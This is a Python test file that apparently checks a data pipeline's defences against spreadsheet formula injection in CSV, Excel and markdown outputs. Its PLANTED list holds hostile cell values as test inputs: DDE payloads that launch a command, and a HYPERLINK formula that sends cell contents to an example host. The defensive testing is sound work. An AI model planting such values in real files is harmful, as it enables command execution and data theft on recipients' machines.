"""Whatever a sender writes into a cell, nothing we write becomes a formula when a spreadsheet opens it."""

import csv
import io
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from ocop_pipeline import inbox
from ocop_pipeline.contracts import Source
from ocop_pipeline.defs.tables import markdown_table
from ocop_pipeline.formulas import disarmed
from ocop_pipeline.reports.layout import as_csv
from ocop_pipeline.reports.reminder_workbook import Reminder, reminder_workbook
from ocop_pipeline.sources import ecommerce_sales, labour_statistics
from ocop_pipeline.sources.document import SOURCE_ROW, Arrival, Document, Part
from ocop_pipeline.vietnamese.periods import Period
from ocop_pipeline.warehouse.query import Answer

PLANTED = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;1)",
    '=HYPERLINK("http://example.org?"&A1;"xem")',
    " =1+1",
    "\t=1+1",
    "＝1+1",
    "'=1+1",
    "- Chè xanh",
)
HARMLESS = ("Chè xanh", "1+1", "a=b", "-5", "+1.234,5", "-12,5 %", "-", "---", "2023-06", "", "chè @ gạo")
STARTS = tuple("=+-@\t\r＝＋－＠")


@pytest.mark.parametrize("text", PLANTED)
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(text: str) -> None:
    assert disarmed(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_a_number_or_a_plain_text_stays_as_it_is(text: str) -> None:
    assert disarmed(text) == text


def test_an_answer_as_csv_holds_no_formula_and_its_numbers_stay_numbers() -> None:
    answer = Answer(("name", "value"), tuple((text, -5) for text in PLANTED))
    rows = list(csv.reader(io.StringIO(as_csv(answer), newline="")))[1:]
    assert [row for row in rows if row[0].startswith(STARTS)] == []
    assert {row[1] for row in rows} == {"-5"}


@pytest.mark.parametrize("source", [ecommerce_sales.SOURCE, labour_statistics.SOURCE])
def test_what_the_archive_keeps_of_a_file_holds_no_formula(tmp_path: Path, source: Source) -> None:
    period = Period.of_months(2023, 6, 1)
    rows = pd.DataFrame({SOURCE_ROW: range(len(PLANTED)), "name": PLANTED, "amount": [*[-5.0] * 9, None]})
    document = Document("231", period, (Part(source.forms[0].name, "231", period, "=1+1", rows),))
    with inbox.Archiving(source, Arrival(tmp_path / "a.csv", "231"), "0123456789abcdef", tmp_path) as archiving:
        archiving.add(document)
        kept = archiving.keep()
    with (tmp_path / str(kept)).open(encoding="utf-8", newline="") as lines:
        read = list(csv.DictReader(lines))
    assert [cell for row in read for name, cell in row.items() if name != "amount" and cell.startswith(STARTS)] == []
    assert [row["amount"] for row in read] == ["-5"] * 9 + [""]


def test_a_workbook_we_write_holds_texts_only() -> None:
    names = ("product_name", "stars", "decision_number", "entity_name", "commune_name", "unit_name")
    rows = [dict.fromkeys(names, text) | {"ends_on": date(2023, 6, 1)} for text in PLANTED]
    content = reminder_workbook("", Reminder("=1+1", date(2023, 6, 1), shows_units=True, notice_days=30, rows=rows))
    cells = [cell for row in openpyxl.load_workbook(io.BytesIO(content))["Hết hạn"].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if isinstance(cell.value, str)} == {"s"}
    assert not [cell for cell in cells if cell.hyperlink]
    assert {cell.value for cell in cells} >= set(PLANTED)
    assert {type(cell.value) for cell in cells} == {str, int, datetime, type(None)}


def test_a_markdown_table_is_not_broken_by_a_cell() -> None:
    shown = markdown_table(("a", "b"), [(text, 1) for text in PLANTED]).md_str or ""
    assert [line.replace("\\|", "").count("|") for line in shown.splitlines()] == [3] * (len(PLANTED) + 2)
